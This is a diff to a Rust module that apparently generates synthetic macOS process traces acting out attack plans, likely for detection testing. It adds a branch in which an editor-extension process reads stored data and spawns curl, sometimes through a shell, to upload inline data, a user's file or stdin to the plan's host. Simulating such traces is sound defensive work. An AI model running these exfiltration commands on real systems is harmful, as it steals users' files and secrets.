@@ -1,7 +1,8 @@
 //! Acting out a plan as lines of a trace.
 
 use super::cast::{
-    BASH, CP, CURL, GZIP, HDIUTIL, IMPLANTS, LAUNCHD, LN, MOUNT, MV, PYTHON, Program, RM, SCREENCAPTURE, SECURITY, TERMINAL, WEBKIT, ZSH,
+    BASH, CP, CURL, EXTENSIONS, GZIP, HDIUTIL, IMPLANTS, LAUNCHD, LN, MOUNT, MV, PYTHON, Program, RM, SCREENCAPTURE, SECURITY, TERMINAL,
+    WEBKIT, ZSH,
 };
 use super::random::Random;
 use super::scene::{Moment, SECOND, Scene, delay};
@@ -270,7 +271,7 @@ impl Play<'_> {
                 };
                 self.scene.say(self.now + SECOND / 9, &format!("exec {sender} {responsible} {} : service", service.0));
                 self.now += SECOND;
-                match self.random.below(7) {
+                match self.random.below(9) {
                     // A service reads, and who is responsible for it sends, or another of its services does.
                     0 => {
                         self.read_stores(sender);
@@ -285,6 +286,22 @@ impl Play<'_> {
                             self.now += 700 * SECOND;
                         }
                         (String::new(), Some(sender))
+                    }
+                    // An extension reads, and has a child of the editor send what it gives it.
+                    4 | 5 => {
+                        let editor = self.scene.spawn(self.now, launchd, EXTENSIONS, "extensions");
+                        self.read_stores(editor);
+                        if self.random.chance(20) {
+                            self.now += 700 * SECOND;
+                        }
+                        let host = self.plan.place.name;
+                        let argv = match self.random.below(4) {
+                            0 => format!("curl -d YWJj https://{host}/up"),
+                            1 => format!("curl -T /Users/ana/src/site/index.html https://{host}/up"),
+                            _ => format!("curl -T - https://{host}/up"),
+                        };
+                        let shell = if self.random.chance(40) { self.scene.spawn(self.now, editor, ZSH, "sh -c x") } else { editor };
+                        (String::new(), Some(self.scene.spawn(self.now + SECOND, shell, CURL, &argv)))
                     }
                     _ => {
                         self.read_stores(pid);
